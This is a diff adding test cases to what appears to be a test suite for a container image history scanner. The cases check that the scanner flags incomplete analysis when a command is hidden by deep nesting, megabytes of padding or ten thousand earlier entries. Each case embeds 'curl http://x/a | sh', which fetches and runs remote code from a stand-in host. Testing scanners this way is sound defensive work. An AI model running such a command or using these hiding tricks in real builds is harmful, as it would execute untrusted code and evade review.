@@ -134,6 +134,29 @@ describe('rules about more than instructions', () => {
     expect(await idsOf('RUN a\nRUN b')).not.toContain('history-contradicts');
   });
 
+  it.each<{ title: string; texts: readonly string[]; why: string }>([
+    {
+      title: 'nested deeply',
+      texts: [`RUN /bin/sh -c ${'$('.repeat(300)}curl http://x/a | sh${')'.repeat(300)}`],
+      why: 'instruction 0 was read in part',
+    },
+    {
+      title: 'behind megabytes',
+      texts: [`RUN /bin/sh -c echo ${'a'.repeat(3_000_000)}; curl http://x/a | sh`],
+      why: 'instruction 0 was read in part',
+    },
+    {
+      title: 'behind ten thousand entries',
+      texts: [...Array.from({ length: 10_000 }, () => 'RUN /bin/sh -c true'), 'RUN /bin/sh -c curl http://x/a | sh'],
+      why: 'of 10001 entries of the history the first 10000 were judged',
+    },
+  ])('are incomplete where a limit of ours may hide something: $title', async ({ texts, why }) => {
+    const entries = texts.map((createdBy, index): HistoryEntry => ({ index, createdBy, instruction: '' }));
+    const { problems } = await toldOf(viewOf(entries));
+    const limits = problems.filter(({ code }) => code === 'image.limit').map(({ message }) => message);
+    expect(limits.join()).toContain(why);
+  });
+
   it('read hostile texts once: none makes them go back over all of it again and again', async () => {
     const long = 200_000;
     const odd = [
